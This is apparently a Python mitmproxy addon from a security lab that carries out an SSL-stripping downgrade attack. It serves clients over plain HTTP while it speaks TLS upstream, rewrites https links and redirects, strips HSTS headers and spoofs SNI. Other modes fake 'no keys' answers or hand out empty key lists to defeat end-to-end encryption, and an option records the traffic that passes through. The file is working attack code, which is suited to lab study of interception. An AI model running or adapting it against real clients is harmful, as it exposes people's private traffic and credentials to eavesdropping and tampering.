"""The downgrade: on the path, has a client and a service do without encryption that both of them are able to use.

    mitmdump -s addons/downgrade.py --mode reverse:http://localhost:8443 --set connection_strategy=lazy \\
             --set ssl_verify_upstream_trusted_ca=AUTHORITY.pem --set keep_host_header=true \\
             --listen-host 127.0.0.1 --listen-port 8082

Connect your client to port 8082 instead of 8443, with http://, as a link or a typed name has it. It is answered without
TLS, while the service is spoken to with TLS and sees nothing unusual. Redirects and links to https:// become http://,
and what would have the client remember to use TLS (HSTS) is taken out. A client that begins with https:// is
relayed as it is: there is nothing to be taken away.

    --set lab_downgrade=keys          for a client that encrypts end to end: say that nobody has keys (404)
    --set lab_downgrade=empty-keys    the same, but hand out lists without keys
    --set lab_downgrade=nothing       let everything through
    --set lab_record=FILE             also write what passes into the new FILE
    --set lab_secret=body=VALUE       mark and comment flows in which VALUE can be read, however it is encoded
    --set lab_own_traffic=true        needed where the service is on another machine

The two about keys speak of the lab's own service and have to stand where TLS has ended: between its front
end and the service (--mode reverse:http://SERVICE), or as an interceptor that the client trusts
(--mode reverse:https://FRONT_END).

Only for traffic that is your own.
"""

from collections.abc import Mapping
from typing import Any

from mitmproxy import connection, ctx, http
from mitmproxy.addonmanager import Loader
from mitmproxy.net.tls import starts_like_tls_record
from mitmproxy.proxy import layer, layers, server_hooks

from lab.model import LabError
from lab.stage.attacker import Attacker
from lab.stage.downgrading import asks_for_keys, empty, no_keys, strip_tls
from lab.stage.tap_side import recorded, refused

CHOICES = TLS, KEYS, EMPTY_KEYS, NOTHING = "tls", "keys", "empty-keys", "nothing"


class Downgrade(Attacker):
    def __init__(self) -> None:
        super().__init__()
        self._what = TLS
        self._hosts: dict[str, str] = {}
        self._requests = self._answers = 0

    def load(self, loader: Loader) -> None:
        super().load(loader)
        loader.add_option("lab_downgrade", str, TLS, "What to take away.", choices=CHOICES)

    def configure(self, updated: set[str]) -> None:
        super().configure(updated)
        self._what = ctx.options.lab_downgrade
        if self._what not in CHOICES:
            raise refused(f"lab_downgrade: {self._what!r} is not one of {', '.join(CHOICES)}")

    def act(self, orders: Mapping[str, Any]) -> dict[str, Any]:
        """{"take": WHAT}: from now on, take this away, as with lab_downgrade.

        {"done": {}}: how many requests were passed on or answered in the attack, and how many answers changed.
        """
        match orders:
            case {"take": str(what)} if what in CHOICES:
                self._what = what
                return {}
            case {"done": {}}:
                return {"requests": self._requests, "answers": self._answers}
        raise LabError(f"this addon takes the orders take (one of {', '.join(CHOICES)}) and done, not {dict(orders)}")

    @recorded
    def next_layer(self, nextlayer: layer.NextLayer) -> None:
        if self._what == TLS and starts_like_tls_record(nextlayer.data_client()):
            nextlayer.layer = layers.TCPLayer(nextlayer.context)

    @recorded
    def request(self, flow: http.HTTPFlow) -> None:
        super().request(flow)
        if self._what == TLS:
            self._hosts[flow.client_conn.id] = flow.request.pretty_host
            flow.request.scheme = "https"
            flow.request.headers.pop("upgrade-insecure-requests", None)
            self._requests += 1
        elif self._what == KEYS and asks_for_keys(flow.request):
            flow.response = no_keys()
            self._requests += 1

    @recorded
    def server_connect(self, data: server_hooks.ServerConnectionHookData) -> None:
        super().server_connect(data)
        # The name that the client named, as if it had used TLS itself.
        data.server.sni = self._hosts.get(data.client.id, data.server.sni)

    @recorded
    def client_disconnected(self, client: connection.Client) -> None:
        self._hosts.pop(client.id, None)
        super().client_disconnected(client)

    @recorded
    def responseheaders(self, flow: http.HTTPFlow) -> None:
        super().responseheaders(flow)
        if flow.response and flow.response.stream:
            self._tamper(flow, flow.response)

    @recorded
    def response(self, flow: http.HTTPFlow) -> None:
        super().response(flow)
        if flow.response and not flow.response.stream:
            self._tamper(flow, flow.response)

    def _tamper(self, flow: http.HTTPFlow, answer: http.Response) -> None:
        """After it was written down as it came."""
        if self._what == TLS:
            self._answers += strip_tls(answer, flow.request.host_header or "")
        elif self._what == EMPTY_KEYS and asks_for_keys(flow.request):
            self._answers += empty(answer)


addons = [Downgrade()]
